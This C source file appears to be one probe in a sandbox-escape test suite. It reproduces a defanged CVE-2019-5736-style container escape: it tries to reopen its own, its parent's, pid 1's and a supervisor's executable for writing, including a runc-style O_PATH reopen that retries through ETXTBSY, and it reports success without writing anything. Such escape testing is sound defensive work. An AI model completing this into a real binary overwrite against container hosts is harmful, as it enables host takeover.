/* exe_overwrite: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F12: CVE-2019-5736 style. Reopen the running binary (ours, a child's, the parent's, pid 1's, the
 * supervisor's) for writing: via /proc/<pid>/exe with O_WRONLY and O_RDWR, via an O_PATH descriptor
 * reopened through /proc/self/fd/N, retrying while ETXTBSY lasts after the target exits, and via
 * truncate/ftruncate on the path. Nothing is ever written: a successful open for writing is the escape.
 * Self-report, because nothing is written, so no hash on the host can change; a real attacker would
 * overwrite the runtime binary here. */
#include <sys/wait.h>
static int escapes;
static void probe(const char *path, const char *who)
{
    int fl[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
    for (int i = 0; i < 3; i++) {
        int fd = open(path, fl[i] | O_CLOEXEC);
        if (fd >= 0) { printf("OPENED %s (%s) for writing, flags %x (nothing written)\n", path, who, fl[i]); escapes++; report(1, "open-exe-for-write-%s", who); close(fd); return; }
        printf("open %s (%s) flags %x: %s\n", path, who, fl[i], strerror(errno));
    }
    int p = open(path, O_PATH | O_CLOEXEC);
    if (p >= 0) {
        char re[64]; snprintf(re, sizeof re, "/proc/self/fd/%d", p);
        int fd = open(re, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) { printf("OPENED %s via O_PATH reopen (nothing written)\n", path); escapes++; report(1, "reopen-exe-for-write-%s", who); close(fd); }
        else printf("reopen %s via %s: %s\n", path, re, strerror(errno));
        close(p);
    } else printf("O_PATH %s: %s\n", path, strerror(errno));
}
int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "--child")) { usleep(150000); return 0; }
    const char *sup = argc > 1 ? argv[1] : "0";
    if (argc > 2) NONCE = argv[2];
    char self[1024]; long n = readlink("/proc/self/exe", self, sizeof self - 1); if (n > 0) self[n] = 0; else strcpy(self, "?");
    printf("own exe: %s\n", self);
    probe("/proc/self/exe", "self");
    probe(self, "self-path");
    char p[128];
    snprintf(p, sizeof p, "/proc/%d/exe", getppid()); probe(p, "parent");
    probe("/proc/1/exe", "pid1");
    snprintf(p, sizeof p, "/proc/%s/exe", sup); probe(p, "supervisor");
    /* truncate: a size change would be the same escape; length = current size, so nothing changes */
    struct stat st;
    if (stat(self, &st) == 0) {
        if (truncate(self, st.st_size) == 0) { printf("truncate(self, same size) succeeded\n"); report(1, "truncate-exe"); escapes++; }
        else printf("truncate %s: %s\n", self, strerror(errno));
    }
    /* runc-style: a child re-executes our binary; grab /proc/<child>/exe by O_PATH while it runs, then
     * after it exits keep retrying the write-open (bounded) until ETXTBSY clears */
    pid_t c = fork();
    if (c == 0) { execl("/proc/self/exe", "x", "--child", (char *)0); _exit(127); }
    if (c > 0) {
        usleep(50000);
        snprintf(p, sizeof p, "/proc/%d/exe", c);
        int ph = open(p, O_PATH | O_CLOEXEC);
        printf("O_PATH child exe: %s\n", ph >= 0 ? "ok" : strerror(errno));
        waitpid(c, 0, 0);
        if (ph >= 0) {
            char re[64]; snprintf(re, sizeof re, "/proc/self/fd/%d", ph);
            int got = -1, err = 0;
            for (int i = 0; i < 200 && got < 0; i++) { got = open(re, O_WRONLY | O_CLOEXEC); err = errno; if (got < 0 && err != ETXTBSY) break; usleep(1000); }
            if (got >= 0) { printf("OPENED child's exe for writing after exit (nothing written)\n"); report(1, "runc-style-exe-reopen"); escapes++; close(got); }
            else printf("runc-style reopen: %s\n", strerror(err));
        }
    }
    if (!escapes) report(0, "exe-overwrite");
    return 0;
}
